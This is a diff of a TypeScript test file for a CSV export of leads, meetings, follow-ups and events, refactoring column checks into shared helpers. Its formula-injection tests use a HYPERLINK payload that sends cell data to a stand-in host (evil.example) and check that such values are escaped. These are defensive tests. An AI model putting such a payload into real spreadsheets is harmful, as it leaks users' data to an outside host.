@@ -13,6 +13,13 @@ import { folderProblem } from '#core/outbox/folder';
 /** The folder destination's files: what each kind's CSV looks like, what a file is called, what a failure says. */
 const rowsOf = (csv: string) => parse(csv, { columns: true, bom: true }) as Record<string, string>[];
 const headerOf = (csv: string) => (parse(csv, { to_line: 1 }) as string[][])[0];
+/** The columns every kind ends with: who and what made the record. */
+const sourceColumns = ['Release Version', 'Device Id', 'Rep', 'Booth', 'Team', 'Region', 'App Version'];
+/** Those columns but the release for a record from a device that is not enrolled. */
+const noSource = { 'Device Id': '', Rep: '', Booth: '', Team: '', Region: '', 'App Version': '' };
+/** The one row of a file of one record of this kind. */
+const onlyRow = (kind: string, idempotencyKey: string, payload: Record<string, unknown>) =>
+  rowsOf(outboxCsv(kind, [{ idempotencyKey, payload }]))[0]!;
 
 describe('outboxCsv', () => {
   it('writes leads in the columns of the leads export, opened and readable by importers', () => {
@@ -69,13 +76,7 @@ describe('outboxCsv', () => {
       'Staff Note',
       'Qualified At',
       'Record Type',
-      'Release Version',
-      'Device Id',
-      'Rep',
-      'Booth',
-      'Team',
-      'Region',
-      'App Version',
+      ...sourceColumns,
     ]);
     expect(rowsOf(csv)).toEqual([
       {
@@ -159,13 +160,7 @@ describe('outboxCsv', () => {
       'Started At',
       'Ended At',
       'Pitchcase Id',
-      'Release Version',
-      'Device Id',
-      'Rep',
-      'Booth',
-      'Team',
-      'Region',
-      'App Version',
+      ...sourceColumns,
     ]);
     const [first, second] = rowsOf(csv);
     expect(first).toEqual({
@@ -183,12 +178,7 @@ describe('outboxCsv', () => {
       'Ended At': '2026-11-23T09:40:00.000Z',
       'Pitchcase Id': 'meeting:m-1',
       'Release Version': '',
-      'Device Id': '',
-      Rep: '',
-      Booth: '',
-      Team: '',
-      Region: '',
-      'App Version': '',
+      ...noSource,
     });
     expect(second).toMatchObject({
       Subject: 'Meeting: presented',
@@ -226,13 +216,7 @@ describe('outboxCsv', () => {
       'Body',
       'Meeting Pitchcase Id',
       'Pitchcase Id',
-      'Release Version',
-      'Device Id',
-      'Rep',
-      'Booth',
-      'Team',
-      'Region',
-      'App Version',
+      ...sourceColumns,
     ]);
     expect(rowsOf(csv)).toEqual([
       {
@@ -246,12 +230,7 @@ describe('outboxCsv', () => {
         'Meeting Pitchcase Id': 'meeting:m-1',
         'Pitchcase Id': 'followup:f-1',
         'Release Version': '',
-        'Device Id': '',
-        Rep: '',
-        Booth: '',
-        Team: '',
-        Region: '',
-        'App Version': '',
+        ...noSource,
       },
     ]);
   });
@@ -296,13 +275,7 @@ describe('outboxCsv', () => {
       'Dwell ms',
       'Pitch',
       'Meeting Pitchcase Id',
-      'Release Version',
-      'Device Id',
-      'Rep',
-      'Booth',
-      'Team',
-      'Region',
-      'App Version',
+      ...sourceColumns,
     ]);
     expect(rowsOf(csv)).toEqual([
       {
@@ -315,12 +288,7 @@ describe('outboxCsv', () => {
         Pitch: 'p-1',
         'Meeting Pitchcase Id': 'meeting:m-1',
         'Release Version': '12',
-        'Device Id': '',
-        Rep: '',
-        Booth: '',
-        Team: '',
-        Region: '',
-        'App Version': '',
+        ...noSource,
       },
       {
         'Pitchcase Id': 'event:e-2',
@@ -332,12 +300,7 @@ describe('outboxCsv', () => {
         Pitch: 'p-1',
         'Meeting Pitchcase Id': '',
         'Release Version': '',
-        'Device Id': '',
-        Rep: '',
-        Booth: '',
-        Team: '',
-        Region: '',
-        'App Version': '',
+        ...noSource,
       },
     ]);
   });
@@ -373,22 +336,15 @@ describe('formula injection', () => {
 
   it('guards every text cell a visitor or rep typed, in every kind, and leaves numbers alone', () => {
     const evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
-    const lead = rowsOf(
-      outboxCsv('lead', [
-        {
-          idempotencyKey: 'lead:1',
-          payload: {
-            leadId: '1',
-            firstName: evil,
-            lastName: '@Lima',
-            company: '+Expo',
-            role: '-x',
-            phone: '\t0161',
-            note: evil,
-          },
-        },
-      ]),
-    )[0]!;
+    const lead = onlyRow('lead', 'lead:1', {
+      leadId: '1',
+      firstName: evil,
+      lastName: '@Lima',
+      company: '+Expo',
+      role: '-x',
+      phone: '\t0161',
+      note: evil,
+    });
     expect(lead).toMatchObject({
       'First Name': `'${evil}`,
       'Last Name': "'@Lima",
@@ -398,14 +354,13 @@ describe('formula injection', () => {
     });
     // The description starts with the note: guarded as a whole.
     expect(lead.Description!.startsWith(`'${evil}`)).toBe(true);
-    const meeting = rowsOf(
-      outboxCsv('meeting', [
-        {
-          idempotencyKey: 'meeting:1',
-          payload: { Subject: evil, Account: '=1', Contact: '@x', Outcome: '+y', Description: '-z' },
-        },
-      ]),
-    )[0]!;
+    const meeting = onlyRow('meeting', 'meeting:1', {
+      Subject: evil,
+      Account: '=1',
+      Contact: '@x',
+      Outcome: '+y',
+      Description: '-z',
+    });
     expect(meeting).toMatchObject({
       Subject: `'${evil}`,
       Account: "'=1",
@@ -413,15 +368,9 @@ describe('formula injection', () => {
       Outcome: "'+y",
       Description: "'-z",
     });
-    const followUp = rowsOf(
-      outboxCsv('followup', [{ idempotencyKey: 'followup:1', payload: { Subject: '=1', To: '@to', Body: evil } }]),
-    )[0]!;
+    const followUp = onlyRow('followup', 'followup:1', { Subject: '=1', To: '@to', Body: evil });
     expect(followUp).toMatchObject({ Subject: "'=1", To: "'@to", Body: `'${evil}` });
-    const event = rowsOf(
-      outboxCsv('event', [
-        { idempotencyKey: 'event:1', payload: { type: 'item.opened', itemId: '=cmd', page: 2, dwellMs: 0 } },
-      ]),
-    )[0]!;
+    const event = onlyRow('event', 'event:1', { type: 'item.opened', itemId: '=cmd', page: 2, dwellMs: 0 });
     expect(event).toMatchObject({ Item: "'=cmd", Page: '2', 'Dwell ms': '0' });
   });
 });
@@ -439,20 +388,13 @@ describe('batchFileName', () => {
   it('names a batch by kind, the date of its first record and the start of its batch key', () => {
     const rows = [row('lead:b', '2026-11-24T08:00:00.000Z'), row('lead:a', '2026-11-23T23:59:00.000Z')];
     const key = batchKey(rows);
-    expect(
-      batchFileName(
-        'lead',
-        rows.map((r) => r.createdAt),
-        key,
-      ),
-    ).toBe(`pitchcase-lead-2026-11-23-${key.slice(0, 16)}.csv`);
-    expect(
-      batchFileName(
-        'lead',
-        rows.map((r) => r.createdAt),
-        key,
-      ),
-    ).toMatch(/^pitchcase-lead-2026-11-23-[0-9a-f]{16}\.csv$/);
+    const name = batchFileName(
+      'lead',
+      rows.map((r) => r.createdAt),
+      key,
+    );
+    expect(name).toBe(`pitchcase-lead-2026-11-23-${key.slice(0, 16)}.csv`);
+    expect(name).toMatch(/^pitchcase-lead-2026-11-23-[0-9a-f]{16}\.csv$/);
   });
 
   it('gives the same batch the same name, and another batch another', () => {
